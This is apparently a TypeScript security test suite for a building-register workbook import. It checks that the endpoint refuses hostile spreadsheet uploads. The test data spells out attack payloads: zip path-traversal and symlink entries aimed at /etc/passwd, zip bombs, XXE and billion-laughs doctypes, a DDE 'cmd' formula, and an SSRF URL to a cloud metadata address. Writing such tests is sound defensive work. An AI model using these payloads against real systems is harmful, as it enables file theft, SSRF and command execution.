import { existsSync } from 'node:fs';
import { getPerson } from '@strata/fictional-register';
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import { startCanary } from '../../test-support/canary.ts';
import { countActs } from '../../test-support/plan-views.ts';
import { givenPlan } from '../../test-support/plans.ts';
import { signedIn } from '../../test-support/signed-in.ts';
import { storedFiles } from '../../test-support/stored-files.ts';
import { startTestSystem } from '../../test-support/test-system.ts';
import {
  manyEntries,
  packedBlanks,
  textCell,
  unitRowsXml,
  unitsWorkbook,
  withCell,
  workbookFile,
} from '../../test-support/unit-workbooks.ts';
import { buildWorkbook, relationships, workbookEntries } from '../../workbooks/testing/build-workbook.ts';
import { buildZip, type GivenEntry } from '../../workbooks/testing/build-zip.ts';

const system = await startTestSystem();
const canary = await startCanary();
afterAll(async () => {
  await system.end();
  await canary.stop();
});
const caller = await signedIn(system, getPerson('A100001'));
const owner = { system, caller, entity: caller.self };
const plan = await givenPlan(owner);

const calls = [
  'POST /Applications/strataUnits/import/check',
  'POST /Applications/strataUnits/import',
] as const;

/** All that an import could leave behind. */
async function traces() {
  const [counts] = await system.database.query(
    `select (select count(*) from strata_units) as units, (select count(*) from plan_imports) as imports,
       (select sum(revision) from strata_plans) as revisions, (select count(*) from files) as files`,
  );
  return { ...counts, acts: await countActs(system), stored: await storedFiles(system.filesFolder) };
}
const before = await traces();

async function nothingIsLeft(): Promise<void> {
  expect(await traces()).toEqual(before);
  expect(canary.hits()).toBe(0);
}
afterEach(nothingIsLeft);

const formOf = (bytes: Buffer, name?: string) => ({
  form: { BuildingId: plan.buildings.annex, File: workbookFile(bytes, name) },
});
const checking = (bytes: Buffer) => caller.call(calls[0], formOf(bytes));
const importing = (bytes: Buffer) => caller.call(calls[1], formOf(bytes));

/** What both calls answer; the check and the import have to refuse alike. */
async function refusalOf(bytes: Buffer, name?: string) {
  const answers = [];
  for (const call of calls) {
    const { status, code, fields, text } = await caller.call(call, formOf(bytes, name));
    expect(text).not.toMatch(/root:|node_modules|\.ts:\d|Error:/);
    answers.push({ status, code, fields });
  }
  const [check, whole] = answers;
  expect(whole).toEqual(check);
  return check;
}

const refused = (status: number, code: string, File: unknown) => ({ status, code, fields: { File } });
const damaged = refused(422, 'FILE_UNREADABLE', expect.stringContaining('damaged'));

/** A sound workbook of one unit with these entries beside its own, or in the place of those. */
const withEntries = (more: readonly GivenEntry[], instead: readonly GivenEntry[] = []): Buffer =>
  unitsWorkbook([{}], { more, instead });

describe('T30: archives that mean another place', () => {
  const escape = `strata-escape-${crypto.randomUUID()}.xml`;
  const entries: Readonly<Record<string, readonly GivenEntry[]>> = {
    'a path upwards': [{ name: `../../../../../../../../tmp/${escape}`, content: 'x' }],
    'a path upwards with strokes of Windows': [{ name: `..\\..\\${escape}`, content: 'x' }],
    'an absolute path': [{ name: `/tmp/${escape}`, content: 'x' }],
    'a drive': [{ name: `C:/${escape}`, content: 'x' }],
    'a link': [{ name: `xl/${escape}`, content: '/etc/passwd', attributes: 0xa1ff0000 }],
    'a name with a zero': [{ name: `xl/a.xml\u0000${escape}`, content: 'x' }],
    'two of a name': [
      { name: `xl/${escape}`, content: '<a/>' },
      { name: `xl/${escape}`, content: '<b/>' },
    ],
    'two of a name but for its case': [{ name: 'XL/WORKBOOK.XML', content: '<workbook/>' }],
    'another name in the directory': [{ name: 'xl/a.xml', statedName: `xl/${escape}`, content: '<a/>' }],
    'an empty name': [{ name: '', content: 'x' }],
  };

  test.each(Object.entries(entries))('%s', async (_what, more) => {
    expect(await refusalOf(withEntries(more))).toEqual(damaged);
    expect([`/tmp/${escape}`, escape, `/${escape}`].filter((path) => existsSync(path))).toEqual([]);
  });

  test('two that share their bytes', async () => {
    const shared = { name: 'xl/worksheets/sheet2.xml', content: '<a/>', sameBytesAs: 4 };
    expect(await refusalOf(withEntries([shared]))).toEqual(damaged);
  });
});

describe('T33: archives that unpack to very much', () => {
  const bomb = packedBlanks(512);
  const sheet = (statedSize: number): GivenEntry => ({
    name: 'xl/worksheets/sheet1.xml',
    content: bomb,
    isStored: true,
    method: 8,
    statedSize,
  });

  test('half a megabyte of 512', async () => {
    const file = withEntries([], [sheet(512 * 1024 * 1024)]);
    expect(file.length).toBeLessThan(600_000);
    expect(await refusalOf(file)).toEqual(
      refused(422, 'FILE_TOO_COMPLEX', expect.stringContaining('more than 32 MB once unpacked')),
    );
  });

  test.each([0, 1, 1_000, 30 * 1024 * 1024])('the same, which says that it is %d bytes', async (size) => {
    expect(await refusalOf(withEntries([], [sheet(size)]))).toEqual(damaged);
  });

  test('many parts, each of which would be small enough', async () => {
    const part = packedBlanks(30);
    const parts = Array.from({ length: 20 }, (_, at) => ({
      ...sheet(30 * 1024 * 1024),
      name: `xl/worksheets/sheet${at + 2}.xml`,
      content: part,
    }));
    expect(await refusalOf(withEntries(parts))).toMatchObject({ code: 'FILE_TOO_COMPLEX' });
  });

  test('a hundred thousand entries', async () => {
    expect(await refusalOf(manyEntries(100_000))).toEqual(
      refused(422, 'FILE_TOO_COMPLEX', expect.stringContaining('more than 2,000 parts')),
    );
  });

  test('a directory that says it has fewer', async () => {
    const entries = Array.from({ length: 3_000 }, (_, at) => ({ name: `xl/${at}.xml`, content: '' }));
    expect(await refusalOf(buildZip([...workbookEntries(), ...entries], { statedCount: 7 }))).toEqual(
      damaged,
    );
  });

  test.each<readonly [what: string, text: string, times: number, said: string]>([
    ['five million empty texts', '<si/>', 5_000_000, 'too many texts'],
    ['texts that compress a thousand times', `<si><t>${'a'.repeat(33_000)}</t></si>`, 900, '32,767'],
  ])('%s', async (_what, text, times, said) => {
    const file = unitsWorkbook([{}], { texts: [text.repeat(times)] });
    expect(await refusalOf(file)).toEqual(refused(422, 'FILE_TOO_COMPLEX', expect.stringContaining(said)));
  });
});

describe('T34: XML that fetches or multiplies', () => {
  const parts = ['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/styles.xml', 'xl/sharedStrings.xml'];
  const others = ['_rels/.rels', 'xl/_rels/workbook.xml.rels', '[Content_Types].xml', 'docProps/core.xml'];
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  );
  const documents: Readonly<Record<string, string>> = {
    'an entity from elsewhere': `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary.origin}/xxe">]>`,
    'an entity of a file': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    'a parameter entity': `<!DOCTYPE x [<!ENTITY % p SYSTEM "${canary.origin}/dtd"> %p; <!ENTITY e "">]>`,
    'a DTD from elsewhere': `<!DOCTYPE x SYSTEM "${canary.origin}/dtd">`,
    'a DTD': '<!DOCTYPE x [<!ENTITY e "text">]>',
    'a billion laughs': `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}<!ENTITY e "&l9;">]>`,
  };

  const cases = [...parts, ...others].flatMap((part) =>
    Object.entries(documents).map(([what, doctype]) => [what, part, doctype] as const),
  );

  test.each(cases)('%s in %s', async (_what, part, doctype) => {
    const sound = workbookEntries({ rows: unitRowsXml([{ 'Unit number': 'entity' }]) });
    const content = String(sound.find(({ name }) => name === part)?.content ?? '<x>entity</x>');
    const body = content.replace(/^<\?xml[^>]*\?>/, '').replace('entity', '&e;');
    const entries = sound.filter(({ name }) => name !== part);
    const file = buildZip([{ name: part, content: `<?xml version="1.0"?>${doctype}${body}` }, ...entries]);
    const answer = await refusalOf(file);
    expect(answer?.status).toBe(422);
    expect(answer?.fields['File']).toBeTypeOf('string');
  });

  test('an entity that nobody declared', async () => {
    const file = buildWorkbook({ rows: unitRowsXml([{}]).replace('Residential', '&e;') });
    expect(await refusalOf(file)).toEqual(damaged);
  });

  test('an entity in another encoding than UTF-8', async () => {
    const xml = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY e "text">]><worksheet/>';
    const content = Buffer.from(`\uFEFF${xml}`, 'utf16le');
    const instead = [{ name: 'xl/worksheets/sheet1.xml', content }];
    expect(await refusalOf(withEntries([], instead))).toEqual(damaged);
  });

  test('a style sheet and an inclusion from elsewhere are not asked for', async () => {
    const sheet = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary.origin}/x.xsl"?>
      <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${canary.origin}/x"/><sheetData/></worksheet>`;
    const file = unitsWorkbook([], { sheet });
    expect((await checking(file)).data.errors).toMatchObject([{ sheet: 'Units', cell: null }]);
    expect(await importing(file)).toMatchObject({ status: 422, code: 'INVALID' });
  });
});

describe('T35: sheets that are very large, or seem so', () => {
  const last = (address: string): string => {
    const row = /\d+/.exec(address)?.[0] ?? '';
    return `<row r="${row}">${textCell(address, 'x')}</row>`;
  };
  test.each(['XFD1048576', 'A1048576', 'A20001', 'BI3', 'XFD3'])('something in %s', async (address) => {
    const answer = await refusalOf(buildWorkbook({ rows: unitRowsXml([{}]) + last(address) }));
    expect(answer).toMatchObject({ status: 422, code: 'FILE_TOO_COMPLEX' });
    expect(answer?.fields['File']).toContain('At most 20,000 rows and 60 columns');
    expect(answer?.fields['File']).toContain(address);
  });

  test.each(['A0', 'ZZZZ9', 'XFE9', 'A1048577', 'A-1', 'a5', '5', ''])(
    'a cell that calls itself “%s”',
    async (address) => {
      const row = `<row r="9">${textCell(address, 'x')}</row>`;
      expect(await refusalOf(buildWorkbook({ rows: unitRowsXml([{}]) + row }))).toEqual(damaged);
    },
  );

  test('more than two thousand merged ranges', async () => {
    const merged = '<mergeCell ref="A2:H20000"/>'.repeat(2_001);
    const answer = await refusalOf(unitsWorkbook([{}], { after: `<mergeCells>${merged}</mergeCells>` }));
    expect(answer).toEqual(refused(422, 'FILE_TOO_COMPLEX', expect.stringContaining('merged ranges')));
  });

  test('tags within tags, without end', async () => {
    const sheet = `<worksheet>${'<a>'.repeat(200_000)}`;
    expect((await refusalOf(unitsWorkbook([], { sheet })))?.status).toBe(422);
  });

  test.each(['1e308', 'NaN', 'Infinity', '-1', '1e-7', '99999999999'])('the area %s', async (value) => {
    const file = withCell('F2', `<c r="F2"><v>${value}</v></c>`);
    expect(await errorsOf(file)).toMatchObject([{ cell: 'F2', row: 2, column: 'Floor area (sqm)' }]);
  });

  test('areas as days of a calendar, from 1900 and from 1904', async () => {
    for (const workbookProperties of ['', '<workbookPr date1904="1"/>']) {
      const cell = '<c r="F2" s="1"><v>60</v></c>';
      const file = withCell('F2', cell, { formats: ['yyyy\\-mm\\-dd'], workbookProperties });
      const [error] = await errorsOf(file);
      expect(error).toMatchObject({ cell: 'F2' });
      expect(error?.reason).toContain('holds a date');
    }
  });
});

/** What the check lists; the import has to refuse just that, by the addresses of the cells. */
async function errorsOf(file: Buffer) {
  const { data } = await checking(file);
  const answer = await importing(file);
  expect(answer).toMatchObject({ status: 422, code: 'INVALID' });
  expect(Object.entries(answer.fields).map(([key]) => key)).toEqual(
    data.errors.map(({ sheet, cell }) => `${sheet}!${cell}`),
  );
  expect(data.numberOfErrors).toBe(data.errors.length);
  return data.errors;
}

describe('T36: workbooks that do something', () => {
  const formulas: Readonly<Record<string, string>> = {
    'a sum': '<f>25+25</f><v>50</v>',
    'a link': `<f>HYPERLINK("${canary.origin}","50")</f><v>50</v>`,
    'a call of a web service': `<f>_xlfn.WEBSERVICE("${canary.origin}/x")</f><v>50</v>`,
    'a command by DDE': `<f>cmd|'/C calc'!A0</f><v>50</v>`,
    'a value of another workbook': '<f>[1]Sheet1!A1</f><v>50</v>',
    'a part of a shared formula': '<f t="shared" si="0"/><v>50</v>',
    'an empty formula': '<f/><v>50</v>',
  };

  const formulaIn = (xml: string) => `=${/<f[^>]*>(.*)<\/f>/.exec(xml)?.[1] ?? ''}`;
  test.each(Object.entries(formulas))('%s in a cell is said with its address', async (_what, formula) => {
    for (const column of ['C', 'F', 'H']) {
      const file = withCell(`${column}2`, `<c r="${column}2">${formula}</c>`);
      const reason = 'The cell holds a formula. Paste its result as a value instead';
      const value = formulaIn(formula);
      expect(await errorsOf(file)).toMatchObject([{ cell: `${column}2`, value, reason }]);
    }
  });

  test('a formula of a whole range counts in each of its cells', async () => {
    const rows = unitRowsXml([{}, {}, {}]).replace(
      /<c r="F2" .*?<\/c>/,
      '<c r="F2"><f t="array" ref="F2:F4">50</f><v>50</v></c>',
    );
    const errors = await errorsOf(buildWorkbook({ rows }));
    expect(errors.map(({ cell }) => cell)).toEqual(['F2', 'F3', 'F4']);
  });

  test('a text that looks like a formula is a text, and refused as a number of a unit only where that is', async () => {
    const errors = await errorsOf(unitsWorkbook([{ 'Floor area (sqm)': '=1+1' }]));
    expect(errors).toMatchObject([{ cell: 'F2', value: '=1+1' }]);
  });

  const types = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
  test.each<readonly [what: string, file: Buffer]>([
    ['by its type', unitsWorkbook([{}], { contentType: types })],
    ['by its code', withEntries([{ name: 'xl/vbaProject.bin', content: 'code' }])],
    ['by its sheet of macros', withEntries([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])],
  ])('macros, %s', async (_what, file) => {
    const macros = refused(415, 'FILE_NOT_WORKBOOK', expect.stringContaining('contains macros'));
    expect(await refusalOf(file, 'Units.xlsm')).toEqual(macros);
    expect(await refusalOf(file, 'Units.xlsx')).toEqual(macros);
  });

  const link = relationships(
    [['rId1', 'externalLinkPath', `${canary.origin}/x.xlsx`]],
    ' TargetMode="External"',
  );
  test.each<readonly [what: string, more: readonly GivenEntry[]]>([
    ['of another workbook', [{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]],
    ['of a source of data', [{ name: 'xl/connections.xml', content: '<connections/>' }]],
    ['that points outwards', [{ name: 'xl/worksheets/_rels/sheet1.xml.rels', content: link }]],
  ])('a link %s', async (_what, more) => {
    const links = refused(422, 'FILE_ACTIVE', expect.stringContaining('links to other files'));
    expect(await refusalOf(withEntries(more))).toEqual(links);
  });

  test('another file within', async () => {
    const file = withEntries([{ name: 'xl/embeddings/oleObject1.bin', content: 'MZ' }]);
    expect(await refusalOf(file)).toMatchObject({ status: 422, code: 'FILE_ACTIVE' });
  });

  const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  test.each<readonly [what: string, file: Buffer, answer: object]>([
    [
      'a password',
      Buffer.concat([compound, Buffer.alloc(504), Buffer.from('EncryptedPackage', 'utf16le')]),
      refused(422, 'FILE_ENCRYPTED', expect.stringContaining('password protected')),
    ],
    [
      'a password of the archive',
      withEntries([{ name: 'xl/a.xml', content: 'x', flags: 1 }]),
      refused(422, 'FILE_ENCRYPTED', expect.stringContaining('password protected')),
    ],
    [
      'the form of before 2007',
      Buffer.concat([compound, Buffer.alloc(504)]),
      refused(415, 'FILE_NOT_WORKBOOK', expect.stringContaining('Excel before 2007')),
    ],
    [
      'text with commas',
      Buffer.from('Floor,Unit number\n1,X-1\n'),
      refused(415, 'FILE_NOT_WORKBOOK', expect.stringContaining('must be an Excel workbook (.xlsx)')),
    ],
    [
      'HTML',
      Buffer.from('<html><table><tr><td>X-1</td></tr></table></html>'),
      refused(415, 'FILE_NOT_WORKBOOK', expect.any(String)),
    ],
    ['nothing', Buffer.alloc(0), refused(415, 'FILE_NOT_WORKBOOK', 'The selected file is empty')],
    [
      'an archive of something else',
      buildZip([{ name: 'word/document.xml', content: '<a/>' }]),
      refused(415, 'FILE_NOT_WORKBOOK', expect.any(String)),
    ],
    ['an archive that was cut off', unitsWorkbook([{}]).subarray(0, 900), damaged],
  ])('a file with %s', async (_what, file, answer) => {
    expect(await refusalOf(file)).toEqual(answer);
  });
});

describe('T52: nothing is asked for from outside', () => {
  test('whatever the cells, links, pictures and remarks of a workbook name', async () => {
    const target = `${canary.origin}/x`;
    const hyperlink = relationships([['rId1', 'hyperlink', target]], ' TargetMode="External"');
    const bad = { 'Unit number': target, Floor: 'http://169.254.169.254/latest/meta-data' };
    const file = unitsWorkbook([bad, { 'Occupancy use': `file:///etc/passwd` }], {
      after: `<hyperlinks><hyperlink ref="C2" xmlns:r="r" r:id="rId1"/></hyperlinks><picture href="${target}"/>`,
      more: [
        { name: 'xl/worksheets/_rels/sheet1.xml.rels', content: hyperlink },
        {
          name: 'docProps/app.xml',
          content: `<Properties><HyperlinkBase>${target}</HyperlinkBase></Properties>`,
        },
      ],
    });
    const errors = await errorsOf(file);
    expect(errors.map(({ cell }) => cell)).toEqual(expect.arrayContaining(['B2', 'C2', 'D3']));
  });
});
